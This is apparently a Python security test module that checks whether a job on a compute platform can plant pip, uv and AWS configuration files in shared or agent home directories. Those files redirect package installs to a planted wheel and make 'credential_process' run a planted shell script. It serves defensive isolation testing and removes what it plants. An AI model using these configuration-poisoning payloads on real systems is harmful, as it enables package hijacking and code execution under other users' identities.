"""Configuration that a job leaves where programs of its agent look for that of their user."""

from __future__ import annotations

import fcntl
import io
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, nullcontext, suppress
from pathlib import Path

from tests.acceptance.http_user import HttpUser
from tests.security.attack import Attack, Target
from tests.security.attacks.paths import submit
from tests.security.local_store import ALLOWED, reached_store
from tests.security.target import DROP

_PLANT = """
import os, pathlib, pwd
def homes():
    with open(f"/proc/{os.getppid()}/status") as file:
        agent = next(int(line.split()[1]) for line in file if line.startswith("Uid:"))
    yield from ("/tmp", "/")
    try:
        yield pwd.getpwuid(agent).pw_dir
    except KeyError:
        pass
def write(path, text):
    if path.exists() and path.read_bytes() == text:
        return [path]
    new = [each for each in reversed(path.parents) if not each.exists()]
    path.parent.mkdir(parents=True, exist_ok=True)
    # What the user of an agent has there is theirs, and stays.
    with open(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o755), "wb") as file:
        file.write(text)
    return [*new, path]
def run(mini_batch):
    written = []
    for home in map(pathlib.Path, homes()):
        for name, text in FILES.items():
            try:
                written += write(home / name, text.replace(b"HOME", bytes(home)).replace(b"DROP", DROP))
            except OSError:
                pass
    return [str(path) for path in written]
"""
_PACKAGE, _MODULE = "parallelrun-planted", "parallelrun_planted"
_WHEEL = f"{_MODULE}-1.0+job-py3-none-any.whl"
_PROGRAM = "planted-program"
_INSTALLED = f"import {_MODULE}\ndef run(mini_batch):\n    return ['planted']\n"


def _wheel() -> bytes:
    info = f"{_MODULE}-1.0+job.dist-info"
    files = {
        f"{_MODULE}.py": "", f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {_PACKAGE}\nVersion: 1.0+job\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n", f"{info}/RECORD": "",
    }  # fmt: skip
    with io.BytesIO() as file:
        with zipfile.ZipFile(file, "w") as archive:
            for name, text in files.items():
                archive.writestr(zipfile.ZipInfo(name), text)
        return file.getvalue()


_FILES = {
    ".config/pip/pip.conf": b"[global]\nindex-url = file://HOME/.planted/simple\n",
    ".pip/pip.conf": b"[global]\nindex-url = file://HOME/.planted/simple\n",
    ".config/uv/uv.toml": b"[[index]]\nurl = 'file://HOME/.planted/simple'\ndefault = true\n",
    ".aws/config": b"[default]\ncredential_process = /bin/sh HOME/.planted/program\n",
    ".planted/program": f"#!/bin/sh\nid -u >DROP/{_PROGRAM}\n".encode(),
    f".planted/simple/{_PACKAGE}/index.html": f"<a href={_WHEEL}>x</a>".encode(),
    f".planted/simple/{_PACKAGE}/{_WHEEL}": _wheel(),
}


@contextmanager
def _planted(target: Target) -> Iterator[None]:
    """Let a job leave these files. Where it runs on this machine, nobody else does so meanwhile, and all of them are
    removed in the end."""
    drop = f"{target.inputs_there}/{DROP}"
    is_here = str(target.inputs) == target.inputs_there
    with _alone_on_this_machine() if is_here else nullcontext():
        paths = target.rows_of(f"FILES, DROP = {_FILES!r}, {drop.encode()!r}\n{_PLANT}")
        try:
            assert any(path.endswith(_WHEEL) for path in paths), f"nothing could be left anywhere: {paths}"
            yield
        finally:
            for path in map(Path, reversed(paths) if is_here else ()):
                with suppress(OSError):  # a folder in which there is something else by now stays
                    _remove(path)


@contextmanager
def _alone_on_this_machine() -> Iterator[None]:
    with open("/tmp/parallelrun-planted.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        yield


def _remove(path: Path) -> None:
    if path.is_dir():
        path.rmdir()
    else:
        path.unlink()


def _index(target: Target) -> str:
    # No public index has such a version.
    with _planted(target):
        rows = target.rows_of(_INSTALLED, environment={"pip": [f"{_PACKAGE}==1.0+job"]})
    return f"another job's package comes from there: {rows}" if rows else ""


def _program(target: Target) -> str:
    """Read from a bucket for which the node has no credentials of its own."""
    store = reached_store(target)
    told = target.inputs / DROP / _PROGRAM
    with _planted(target), HttpUser(target.url, target.token) as user:
        datastore = {"type": "s3", "bucket": ALLOWED, "endpoint": store.url, "region": "x", "path_style": True}
        user.client.put("/v1/datastores/unsecured", json=datastore).raise_for_status()
        submit(user, target, inputs={"data": "azureml://datastores/unsecured/paths/x"})
    return f"a program from there was run by user {told.read_text().strip()}" if told.exists() else ""


ATTACKS = [
    Attack("configurations that a job plants for installers", _index, apart_only=True),
    Attack("configurations that a job plants for clients of stores", _program, apart_only=True),
]
